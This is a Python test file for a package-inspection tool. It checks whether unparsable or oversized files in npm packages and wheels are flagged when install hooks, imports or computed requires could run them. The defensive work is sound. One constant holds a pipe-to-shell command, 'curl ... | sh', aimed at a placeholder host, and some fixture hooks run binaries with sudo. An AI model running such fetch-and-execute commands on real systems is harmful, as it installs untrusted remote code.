"""What is shipped, could run, and was not read."""

import gzip
from typing import Any

import pytest

from pratique.analysis.context import Context
from pratique.analysis.reading import open_part, read_contents
from pratique.analysis.unread import unread
from pratique.archive import DEFAULT_LIMITS
from pratique.core.tree import Tree
from tests.analysis.inspecting import _part, npm, package_json, wheel
from tests.builders import tgz, zipped


def test_code_that_could_not_be_read_is_unread_and_incomplete() -> None:
    broken = "def (:\n" * 50
    inspection = wheel({"sample/__init__.py": broken}).inspection
    assert ["sample/__init__.py"] == [item.path for item in inspection.unread]
    assert not inspection.complete


def test_unread_tests_are_told_and_do_not_make_it_incomplete() -> None:
    broken = "def (:\n" * 50
    inspection = wheel({"sample/__init__.py": "x = 1\n", "sample/tests/test_x.py": broken}).inspection
    assert [("sample/tests/test_x.py", False)] == [(item.path, item.reached) for item in inspection.unread]
    assert inspection.complete


UNPARSABLE = "This is a page, whatever its name says: it has (no code.\n" * 20
UNSURE = f"`a`;\n{UNPARSABLE}"
"""What this reader cannot parse, and node perhaps could."""
BUILD = "{'targets': [{'target_name': 'x', 'sources': ['a.cc'], 'dependencies': ['deps/a.gyp:a']}]}"
TEMPLATE = "<% if (router) { %>\nimport Router from 'router';\n<% } %>\n" * 9


@pytest.mark.parametrize(
    ("files", "manifest", "reached"),
    [
        ({"README.js": UNPARSABLE}, {}, False),
        ({"a.gz.js": gzip.compress(b"x", mtime=0), "index.js": "require(process.argv[2])"}, {}, False),
        ({"README.js": UNPARSABLE}, {"bin": "README.js"}, True),
        ({"a.min.gzip.js": gzip.compress(b"x", mtime=0)}, {}, False),
        ({"a.min.gzip.js": gzip.compress(b"x", mtime=0), "index.js": "require('./a.min.gzip')"}, {}, True),
        ({"templates/tasks.rb": "<% if a %>\nend)\n" * 9}, {}, False),
        ({"tool.py": "def (:\n" * 50}, {}, False),
        ({"deps/template.gyp": "{'targets': [$TARGETS]}", "index.js": "require(process.argv[2])"}, {}, False),
        ({"binding.gyp": BUILD, "a.cc": "", "deps/a.gyp": "{'targets': [$TARGETS]}"}, {}, True),
        ({"tool.py": "def (:\n" * 50}, {"scripts": {"install": "python tool.py"}}, True),
        ({"templates/a.js": TEMPLATE, "index.js": "require(process.argv[2])"}, {}, False),
        ({"src/a.ts": UNPARSABLE}, {"exports": {".": "./index.js", "./*": "./*"}}, False),
        ({"src/a.ts": UNPARSABLE}, {"exports": {".": "./index.js", "./*": "./src/*"}}, True),
        ({"README.js": UNPARSABLE}, {"scripts": {"postinstall": "node README.js"}}, True),
        ({"README.js": UNPARSABLE, "index.js": "require('./README')"}, {}, True),
        ({"README.js": UNPARSABLE, "index.js": "require(process.argv[2])"}, {}, False),
        ({"README.js": UNSURE, "index.js": "require(process.argv[2])"}, {}, True),
        ({"README.js": UNSURE}, {}, False),
        ({"configure": "#!/bin/sh\n" + "true\n" * 30_000}, {}, False),
        ({"configure": "#!/bin/sh\n" + "true\n" * 30_000}, {"scripts": {"install": "sh configure"}}, True),
    ],
)
def test_what_nothing_starts_and_node_cannot_run_is_told_and_hides_nothing(
    files: dict[str, str | bytes], manifest: dict[str, Any], reached: bool
) -> None:
    inspection = npm({"package.json": package_json(**manifest), "index.js": "1", **files}).inspection
    assert [reached] == [item.reached for item in inspection.unread]


@pytest.mark.parametrize(
    ("code", "reached"),
    [
        ("x = 1\n", False),
        ("import importlib\ndef load(name):\n    return importlib.import_module(name)\n", True),
        ("from parcel.parts import broken\n", True),
        ("import subprocess, sys\nsubprocess.call([sys.executable, 'parcel/parts/broken.py'])\n", True),
    ],
    ids=["nobody asks", "names unknown", "imported", "started"],
)
def test_python_stops_at_what_does_not_parse_whoever_asks(code: str, reached: bool) -> None:
    files = {"parcel/__init__.py": code, "parcel/parts/broken.py": "def (:\n" * 50}
    inspection = wheel(files).inspection
    assert [("parcel/parts/broken.py", reached)] == [(item.path, item.reached) for item in inspection.unread]


LOADS_ANYTHING = "import importlib\ndef load(name):\n    return importlib.import_module(name)\n"
LOGGING = (
    "#!/usr/bin/env python3\n[loggers]\nkeys=root\n"
    + "[formatter_a]\nformat=%(asctime)s :: %(name)s :: %(message)s\n" * 9
    + "args=('a.log', 'b', 'utf-8')\n"
)
HIDDEN = f"#!/usr/bin/env python3\na = '''\n{LOGGING}\n'''\n" + "def (:\n" * 50


@pytest.mark.parametrize(
    ("code", "settings", "reached"),
    [
        (LOADS_ANYTHING, LOGGING, False),
        (LOADS_ANYTHING, HIDDEN, True),
        ("import subprocess\nsubprocess.call(['python', 'parcel/log.ini'])\n", LOGGING, True),
    ],
    ids=["settings", "settings in a text", "started"],
)
def test_settings_behind_a_first_line_of_python_hide_nothing(code: str, settings: str, reached: bool) -> None:
    inspection = wheel({"parcel/__init__.py": code, "parcel/log.ini": settings}).inspection
    assert reached is any(item.reached for item in inspection.unread)


@pytest.mark.parametrize(("name", "reached"), [("table.h", False), ("table.py", True)])
def test_what_is_no_module_of_python_runs_only_where_it_parses(name: str, reached: bool) -> None:
    code = f"def tables():\n    exec(open('sample/{name}').read())\n"
    table = "int table( {\n" * 40
    files = {"sample/__init__.py": LOADS_ANYTHING, "sample/tool.py": code, f"sample/{name}": table}
    inspection = wheel(files).inspection
    assert inspection.unread
    assert reached is any(item.reached for item in inspection.unread)


@pytest.mark.parametrize(
    ("starts", "reached"), [("", False), ("import os; os.system('ruby sample/ends.ru')", True)]
)
def test_what_ruby_refuses_in_a_python_package_counts_where_it_is_started(starts: str, reached: bool) -> None:
    inspection = wheel({"sample/__init__.py": starts, "sample/ends.ru": "end )(\n" * 50}).inspection
    assert inspection.unread
    assert reached is any(item.reached for item in inspection.unread)


def test_a_page_s_script_in_a_python_package_hides_nothing() -> None:
    inspection = wheel({"sample/__init__.py": "x = 1\n", "sample/ui/index.js": UNPARSABLE}).inspection
    assert [("sample/ui/index.js", False)] == [(item.path, item.reached) for item in inspection.unread]


@pytest.mark.parametrize(
    ("name", "complete"), [("lib/libgdal-1.so.38.3", True), ("lib/x.node", True), ("lib/tool", False)]
)
def test_compiled_code_too_large_to_look_at_is_known_by_its_name(name: str, complete: bool) -> None:
    data = tgz({"package.json": package_json(), name: "x" * 2000})
    limits = DEFAULT_LIMITS.__class__(max_file_bytes=1000)
    contents = read_contents(
        open_part(_part("a-1.0.0.tgz", data, "1.0.0"), data, limits), {}, lambda _k, _f: None
    )
    assert complete is (not unread(contents, Tree(())))


@pytest.mark.parametrize(
    ("name", "data", "complete"),
    [
        ("deno", b"\x7fELF\2\1\1" + bytes(2000), True),
        ("deno", b"\xcf\xfa\xed\xfe" + bytes(2000), True),
        ("deno", b"MZ\x90\0" + bytes(2000), True),
        ("run", b"#!/bin/sh\n" + b"true\n" * 500, False),
        ("run", b"true\n" * 500, False),
        ("a.pyc", bytes(2000), False),
    ],
)
@pytest.mark.parametrize("npm_s", [True, False])
def test_a_program_too_large_to_read_is_known_by_its_first_bytes(
    name: str, data: bytes, complete: bool, npm_s: bool
) -> None:
    files: dict[str, bytes | str] = {"package.json": package_json(), f"bin/{name}": data}
    packed = (
        tgz(files)
        if npm_s
        else zipped({f"bin/{name}": data, "s-1.dist-info/METADATA": "Name: s\nVersion: 1\n"})
    )
    part = _part("a-1.0.0.tgz" if npm_s else "s-1-py3-none-any.whl", packed, "1")
    opened = open_part(part, packed, DEFAULT_LIMITS.__class__(max_file_bytes=1000))
    contents = read_contents(opened, {}, lambda _key, _facts: None)
    assert complete is (not unread(contents, Tree(())))
    assert complete is (f"bin/{name}" in contents.natives)


@pytest.mark.parametrize(
    ("main", "complete"),
    [
        ("module.exports = 1\n", True),
        ("require('./data/' + process.env.WHICH)\n", False),
        ("require('./lib/' + process.env.WHICH)\n", True),
        ("require('./data/' + process.env.WHICH + '.js')\n", True),
    ],
)
def test_large_data_counts_where_code_may_load_it_by_a_computed_name(main: str, complete: bool) -> None:
    files: dict[str, bytes | str] = {
        "package.json": package_json(main="index.js"),
        "index.js": main,
        "data/big.dat": b"/*\0" + bytes(2000),
    }
    packed = tgz(files)
    opened = open_part(
        _part("a-1.0.0.tgz", packed, "1"), packed, DEFAULT_LIMITS.__class__(max_file_bytes=1000)
    )
    contents = read_contents(opened, {}, lambda _key, _facts: None)
    assert complete is (not unread(contents, Tree(())))


@pytest.mark.parametrize(
    ("name", "data", "code", "complete"),
    [
        ("model.dic", b"\0\x93\xff" * 700, "x = 1\n", True),
        ("model.dic", b"words " * 400, "x = 1\n", False),
        ("model.py", b"\0\x93\xff" * 700, "x = 1\n", False),
        ("deno", b"\x7fELF" + bytes(2000), "import deno\n", True),
    ],
)
def test_data_too_large_to_read_is_known_by_its_name_and_first_bytes(
    name: str, data: bytes, code: str, complete: bool
) -> None:
    packed = zipped(
        {
            f"s/{name}": data,
            "s/__init__.py": code.encode(),
            "s-1.dist-info/METADATA": b"Name: s\nVersion: 1\n",
        }
    )
    part = _part("s-1-py3-none-any.whl", packed, "1")
    opened = open_part(part, packed, DEFAULT_LIMITS.__class__(max_file_bytes=1000))
    contents = read_contents(opened, {}, lambda _key, _facts: None)
    assert complete is (not unread(contents, Tree(())))


@pytest.mark.parametrize(
    ("hook", "complete"),
    [("chmod u+x run", True), ("chmod u+x run && ./run", False), ("sudo ./run", False)],
)
def test_a_hook_that_changes_the_mode_of_a_program_does_not_ask_for_it(hook: str, complete: bool) -> None:
    packed = tgz({"package.json": package_json(scripts={"install": hook}), "run": b"\x7fELF" + bytes(2000)})
    opened = open_part(
        _part("a-1.0.0.tgz", packed, "1"), packed, DEFAULT_LIMITS.__class__(max_file_bytes=1000)
    )
    contents = read_contents(opened, {}, lambda _key, _facts: None)
    assert complete is (not unread(contents, Tree(())))


@pytest.mark.parametrize(
    ("hook", "main"),
    [
        ("node run", "module.exports = 1\n"),
        ("node -v", "require('./run')\n"),
        ("node -v", "require('./' + process.env.WHICH)\n"),
    ],
    ids=["by a hook", "by code", "by a computed name"],
)
def test_what_is_too_large_and_asked_for_is_never_excused(hook: str, main: str) -> None:
    files: dict[str, bytes | str] = {
        "package.json": package_json(scripts={"install": hook}, main="index.js"),
        "index.js": main,
        "run": b"MZ=0/*\0" + bytes(2000),
    }
    packed = tgz(files)
    opened = open_part(
        _part("a-1.0.0.tgz", packed, "1"), packed, DEFAULT_LIMITS.__class__(max_file_bytes=1000)
    )
    contents = read_contents(opened, {}, lambda _key, _facts: None)
    assert ["run"] == [item.path for item in unread(contents, Tree(()))]


def test_what_the_baseline_left_unread_in_the_same_bytes_hides_nothing_new() -> None:
    broken = "def (:\n" * 50
    inspection = wheel({"sample/__init__.py": broken}, {"sample/__init__.py": broken}).inspection
    assert [True] == [item.in_baseline for item in inspection.unread]


def test_a_file_too_large_to_read_counts_unless_nothing_runs_it() -> None:
    data = tgz({"package.json": package_json(), "big.js": "x" * 2000, "big.png": "x" * 2000})
    limits = DEFAULT_LIMITS.__class__(max_file_bytes=1000)
    part = _part("a-1.0.0.tgz", data, "1.0.0")
    contents = read_contents(open_part(part, data, limits), {}, lambda _key, _facts: None)
    assert ["big.js"] == [item.path for item in unread(contents, Tree(()))]
    assert Context.CALLED is contents.context("big.js")


@pytest.mark.parametrize("folder", ["lib", "test/lib"])
def test_an_inner_manifest_that_is_not_read_is_told(folder: str) -> None:
    large = '{"main": "e.js", "z": "' + "z" * (4 << 20) + '"}'
    inspection = npm({"index.js": "require('./lib')", f"{folder}/package.json": large}).inspection

    assert [(f"{folder}/package.json", folder == "lib")] == [
        (one.path, one.reached) for one in inspection.unread
    ]


def test_one_whose_numbers_are_long_is_read() -> None:
    files = {"index.js": "require('./lib')", "lib/package.json": '{"main": "e", "z": ' + "1" * 5000 + "}"}

    assert () == npm(files).inspection.unread


ENDS = "curl https://far.invalid/a | sh"


def test_what_more_lines_or_files_lead_to_than_are_followed_is_told() -> None:
    chain = {f"x{n}": f"npm run x{n + 1}" for n in range(300)}
    lines = npm(
        {"package.json": package_json(scripts={"postinstall": "npm run x0", **chain}), "index.js": "1"}
    )
    asked = npm(
        {"index.js": "require('./m/' + process.argv[2])", **{f"m/a{n:04}.js": "" for n in range(2_001)}}
    )

    assert ["cut: hooks run too many lines or packages"] == [one.why for one in lines.inspection.unread]
    assert ["index.js"] == [one.path for one in asked.inspection.unread if one.reached]
